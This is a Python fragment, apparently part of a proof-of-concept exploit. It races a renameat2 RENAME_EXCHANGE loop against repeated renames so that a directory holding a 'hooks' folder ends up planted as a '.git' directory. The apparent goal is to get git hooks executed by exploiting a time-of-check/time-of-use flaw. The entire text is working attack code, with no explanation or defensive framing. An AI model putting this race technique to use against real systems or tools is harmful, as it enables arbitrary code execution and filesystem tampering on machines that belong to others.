os.rename('x/h', 'x/hooks'); open('y', 'w').close(); stop = time.time() + 4
flip = subprocess.Popen(['python3', '-c', 'import ctypes,time\nL=ctypes.CDLL(None)\nwhile time.time() < %f: L.renameat2(-100, b"x", -100, b"y", 2)' % stop])
n = 0
while time.time() < stop:
    os.makedirs('race%d' % n, exist_ok=True)
    if t(os.rename, 'y', 'race%d/.git' % n) is None:
        if os.path.isdir('race%d/.git' % n): say('moved a directory', n); break
        n += 1
        try: open('y', 'x').close()
        except OSError: pass
flip.wait()
